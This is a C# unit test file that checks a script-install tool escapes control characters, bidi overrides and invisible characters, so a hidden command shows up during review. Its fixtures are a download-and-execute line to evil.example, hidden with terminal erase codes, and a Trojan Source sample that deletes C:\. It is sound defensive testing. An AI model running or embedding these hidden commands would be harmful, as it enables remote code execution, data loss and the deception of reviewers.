using System.Text;
using SecureInstall.Core.Checksums;
using SecureInstall.Core.Downloads;
using SecureInstall.Core.Scripts;

namespace SecureInstall.Core.Tests.HostileLocalState;

/// <summary>
/// Issue 17 #8: escape sequences and bidi controls in a script must not hide a line from the person reading -Inspect,
/// --inspect or the ScriptChanged diff: every place shows the script through ScriptText.ForReview.
/// </summary>
public sealed class ScriptReviewTextTests : IDisposable
{
    // "ESC[2K" erases the terminal line and CR returns to its start: the reader sees only what follows.
    private const string HiddenLine = "iwr https://evil.example/x | iex # \u001b[2K\r";
    private const string Cover = "Write-Host 'Installing...'";

    private readonly string _dir = Path.Combine(Path.GetTempPath(), "si-review-" + Guid.NewGuid().ToString("N"));

    public ScriptReviewTextTests() => Directory.CreateDirectory(_dir);

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    /// <summary>Nothing a terminal acts on or does not draw: only TAB and LF below U+0020, and no bidi controls.</summary>
    private static void AssertNothingHidden(string shown)
    {
        foreach (char c in shown)
        {
            Assert.False(c < 0x20 && c != '\n' && c != '\t', $"U+{(int)c:X4} is shown raw");
            Assert.False(c >= 0x7F && c <= 0x9F, $"U+{(int)c:X4} is shown raw");
            Assert.False(c is >= '\u202A' and <= '\u202E' or >= '\u2066' and <= '\u2069', $"U+{(int)c:X4} is shown raw");
        }
    }

    [Fact]
    public void EraseLineAndCarriageReturn_AreShownAsEscapes_AndTheHiddenCommandIsOnItsOwnLine()
    {
        string shown = ScriptText.ForReview(HiddenLine + Cover + "\n");
        AssertNothingHidden(shown);
        // A lone CR is a line break to PowerShell, so it is shown as one, after its escape.
        Assert.Equal("iwr https://evil.example/x | iex # \\x1b[2K\\x0d\n" + Cover + "\n", shown);
    }

    [Fact]
    public void BidiOverridesAndIsolates_AreShownAsEscapes()
    {
        // Trojan Source: the RLO and the isolates make the comment look as if it closed before the check.
        string text = "$isAdmin = $false\nif ($isAdmin) { # \u202e } \u2066if ($isAdmin)\u2069 \u2066 admins only\nRemove-Item -Recurse C:\\\n";
        string shown = ScriptText.ForReview(text);
        AssertNothingHidden(shown);
        Assert.Contains("# \\u202e } \\u2066if ($isAdmin)\\u2069 \\u2066 admins only", shown);
    }

    [Theory]
    [InlineData("a\u0000b", "a\\x00b")]
    [InlineData("a\u007fb", "a\\x7fb")]
    [InlineData("a\u009bb", "a\\x9bb")]                       // C1 CSI: an escape sequence in one character
    [InlineData("Invoke-\u200bThing", "Invoke-\\u200bThing")]  // zero-width space inside a name
    [InlineData("a\u2028b", "a\\u2028b")]
    [InlineData("a\ufeffb", "a\\ufeffb")]
    [InlineData("$\u3164 = 1", "$\\u3164 = 1")]                // an invisible letter as a variable name
    [InlineData("x\U000E0041y", "x\\U000e0041y")]              // a tag character: invisible, past the BMP
    [InlineData("a\rb\r\nc\r", "a\\x0d\nb\nc\\x0d")]
    public void InvisibleAndControlCharacters_AreEscaped(string text, string expected)
    {
        Assert.Equal(expected, ScriptText.ForReview(text));
    }

    [Fact]
    public void OrdinaryText_IsShownAsItIs()
    {
        const string text = "\t'café €' | Write-Host # 😀 ✓\n";
        Assert.Same(text, ScriptText.ForReview(text));
    }

    [Fact]
    public void ForReviewLine_EscapesLineFeedsToo()
    {
        Assert.Equal("a\\x0ab\\x0d", ScriptText.ForReviewLine("a\nb\r"));
    }

    [Fact]
    public void Diff_ShowsTheHiddenLineAsAnAddition_WithEscapes()
    {
        string diff = UnifiedDiff.Create(Cover + "\n", HiddenLine + Cover + "\n", "old", "new");
        AssertNothingHidden(diff);
        // The lone CR ends a line, as PowerShell reads it: the added command is a line of its own in the diff.
        Assert.Contains("+iwr https://evil.example/x | iex # \\x1b[2K\\x0d\n " + Cover + "\n", diff);
    }

    [Fact]
    public void Diff_NamesAreShownWithEscapes()
    {
        string diff = UnifiedDiff.Create("", "x\n", "old\u001b[2K", "new\u202e");
        AssertNothingHidden(diff);
        Assert.StartsWith("--- old\\x1b[2K\n+++ new\\u202e\n", diff);
    }

    private Uri Publish(string text)
    {
        string path = Path.Combine(_dir, "install.ps1");
        File.WriteAllText(path, text, new UTF8Encoding(false));
        return new Uri(path);
    }

    [Fact]
    public async Task ScriptChanged_DiffShowsTheHiddenLine()
    {
        Uri uri = Publish(Cover + "\n");
        var fetcher = new ScriptFetcher(new VerifiedDownloaderOptions { NoCache = true });
        string store = Path.Combine(_dir, "pins", "script-pins.json");
        VerifiedScript first = await fetcher.FetchAsync(new ScriptRequest(uri) { TrustOnFirstUse = true, PinStorePath = store });
        ScriptFetcher.RecordPin(first, DateTimeOffset.UnixEpoch);
        Publish(HiddenLine + Cover + "\n");
        var ex = await Assert.ThrowsAsync<ScriptChangedException>(() =>
            new ScriptFetcher(new VerifiedDownloaderOptions { NoCache = true }).FetchAsync(new ScriptRequest(uri) { TrustOnFirstUse = true, PinStorePath = store }));
        AssertNothingHidden(ex.Diff);
        Assert.Contains("+iwr https://evil.example/x | iex # \\x1b[2K\\x0d\n", ex.Diff);
    }

    [Fact]
    public async Task Inspect_ReviewTextShowsTheHiddenLine_WhileTextIsWhatRuns()
    {
        Uri uri = Publish(HiddenLine + Cover + "\n");
        byte[] bytes = File.ReadAllBytes(uri.LocalPath);
        string sha = Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(bytes)).ToLowerInvariant();
        VerifiedScript script = await new ScriptFetcher(new VerifiedDownloaderOptions { NoCache = true })
            .FetchAsync(new ScriptRequest(uri) { Expected = ChecksumEntry.FromDigest(sha, ChecksumAlgorithm.SHA256, "-Sha256") });
        Assert.Equal(HiddenLine + Cover + "\n", script.Text);
        AssertNothingHidden(script.ReviewText);
        Assert.StartsWith("iwr https://evil.example/x | iex # \\x1b[2K\\x0d\n", script.ReviewText);
        Assert.Equal(3, script.LineCount);   // the hidden line, the cover line, and the empty end after the last LF
    }

    [Fact]
    public void PinnedAtWithAnEscapeSequence_IsPinStoreInvalid()
    {
        // pinnedAt is printed in the diff header and the verbose trust line; it is a UTC time or the store is refused.
        string path = Path.Combine(_dir, "script-pins.json");
        string sha = new('a', 64);
        File.WriteAllText(path, "{\"scripts\":[{\"uri\":\"u\",\"sha256\":\"" + sha + "\",\"pinnedAt\":\"2025-01-01\\u001b[2K\\rlooks fine\",\"copy\":\"script-pins/" + sha + ".ps1\"}]}");
        var ex = Assert.Throws<PinStoreInvalidException>(() => new ScriptPinStore(path).Load());
        Assert.Contains("\"pinnedAt\"", ex.Message);
        AssertNothingHidden(ex.Message);
    }
}
